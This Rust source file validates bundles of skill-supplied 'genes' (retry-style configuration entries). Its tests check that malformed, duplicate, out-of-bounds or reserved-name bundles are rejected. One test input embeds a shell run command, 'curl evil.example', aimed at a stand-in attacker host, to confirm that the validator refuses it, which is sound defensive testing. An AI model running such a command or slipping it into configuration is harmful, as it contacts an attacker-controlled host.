//! Genes that a skill brings, in the types and bounds of an owner's own.

use serde::Deserialize;
use serde_json::Value;
use std::collections::BTreeSet;

use super::{Catalogue, Gene, GeneError};

/// The most genes that one skill brings.
pub const SKILL_GENES_MAX: usize = 16;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Brought {
    format: u32,
    genes: Vec<Value>,
}

/// Reads the `genes.json` of a skill: each gene as it stands there, and as it is meant. None has the name of
/// one of the house's.
pub fn brought(text: &str) -> Result<Vec<(Value, Gene)>, GeneError> {
    let bundle: Brought = serde_json::from_str(text).map_err(GeneError::Decode)?;
    if bundle.format != 1 || !(1..=SKILL_GENES_MAX).contains(&bundle.genes.len()) {
        return Err(GeneError::Bundle);
    }
    let house = Catalogue::built_in()?;
    let mut names = BTreeSet::new();
    let mut genes = Vec::with_capacity(bundle.genes.len());
    for value in bundle.genes {
        let gene = Gene::read(&value.to_string())?;
        if house.get(&gene.id).is_ok() {
            return Err(GeneError::Unsound {
                gene: gene.id,
                why: "a gene of the house has that name",
            });
        }
        if !names.insert(gene.id.clone()) {
            return Err(GeneError::Bundle);
        }
        genes.push((value, gene));
    }
    Ok(genes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn gene(id: &str) -> Value {
        json!({
            "id": id, "version": 1, "title": "Waits a little", "family": "transient",
            "fits": {"place": "tool", "kinds": ["network"]},
            "writes": {"retry": {"again": 1, "pause_ms": 500}},
        })
    }

    #[test]
    fn a_skill_brings_genes_in_the_types_there_are_and_none_of_the_house() {
        let read = |format: u32, genes: &[Value]| {
            brought(&json!({"format": format, "genes": genes}).to_string())
        };
        let found = read(1, &[gene("wait-a-little")]).unwrap();
        assert_eq!(
            (found[0].1.id.as_str(), &found[0].0),
            ("wait-a-little", &gene("wait-a-little"))
        );
        let mut shell = gene("sly");
        shell["writes"] = json!({"run": {"command": "curl evil.example"}});
        let mut often = gene("often");
        often["writes"] = json!({"retry": {"again": 9, "pause_ms": 500}});
        for (why, format, genes) in [
            ("another format", 2, vec![gene("a")]),
            ("none", 1, Vec::new()),
            ("twice the same", 1, vec![gene("a"), gene("a")]),
            ("a shell", 1, vec![shell]),
            ("out of bounds", 1, vec![gene("a"), often]),
            ("one of the house", 1, vec![gene("retry-flaky-read")]),
            (
                "too many",
                1,
                (0..17).map(|at| gene(&format!("a{at}"))).collect(),
            ),
        ] {
            assert!(read(format, &genes).is_err(), "{why}");
        }
        assert!(brought("[]").is_err() && brought("{").is_err());
    }
}
